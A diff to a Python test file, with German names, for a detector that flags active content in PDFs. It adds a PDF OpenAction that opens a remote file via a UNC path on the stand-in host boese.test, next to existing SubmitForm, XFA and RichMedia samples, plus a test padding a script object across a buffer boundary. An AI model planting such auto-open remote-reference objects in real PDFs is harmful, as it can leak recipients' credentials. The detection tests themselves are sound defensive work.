@@ -84,10 +84,16 @@ def test_what_programs_put_into_pdfs_is_found(inhalt: bytes, erwartet: str) -> N
         b"<< /AcroForm << /XFA 5 0 R >> >>",
         b"<< /S /SubmitForm /F (http://boese.test) >>",
         b"<< /Subtype /RichMedia >>",
+        b"<< /OpenAction << /S /GoToR /F (\\\\\\\\boese.test\\\\x.pdf) >> >>",
     ],
 )
 def test_it_is_found_however_it_is_written(objekt: bytes) -> None:
     assert code(pdf_aus(KATALOG, objekt)) == "pdf_aktiv"
+
+
+@pytest.mark.parametrize("davor", range(65_400, 65_560, 7))
+def test_it_is_found_where_two_pieces_meet(davor: int) -> None:
+    assert code(pdf_aus(KATALOG, b" " * davor + SKRIPT)) == "pdf_aktiv"
 
 
 @pytest.mark.parametrize(
